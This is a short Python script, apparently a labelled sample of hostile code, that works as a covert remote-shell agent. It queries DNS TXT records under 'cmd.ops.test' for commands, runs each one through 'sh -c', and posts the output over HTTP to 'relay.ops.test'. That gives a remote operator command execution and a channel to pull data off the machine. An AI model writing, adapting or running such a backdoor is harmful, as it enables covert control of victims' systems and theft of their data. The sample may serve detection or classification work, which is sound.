# class: shell; possible: low medium; style: orders in TXT records, answers by HTTP
import os
import random
import socket
import struct
import subprocess
import time
import urllib.request


def txt(name):
    server = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
    q = struct.pack(">HHHHHH", random.getrandbits(16), 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 16, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(4)
    s.sendto(q, (server, 53))
    a = s.recv(2048)
    if not struct.unpack(">H", a[6:8])[0]:
        return ""
    at = len(q)
    at += 2 if a[at] >= 192 else a.index(b"\0", at) - at + 1
    return a[at + 11:at + 11 + a[at + 10]].decode()


for i in range(6):
    try:
        order = txt("c%d.cmd.ops.test" % i)
    except OSError:
        order = ""
    if order:
        out = subprocess.run(["sh", "-c", order], capture_output=True, stdin=subprocess.DEVNULL).stdout
        urllib.request.urlopen("http://relay.ops.test/r%d" % i, data=out or b"-", timeout=8).read()
    time.sleep(2)
os._exit(0)
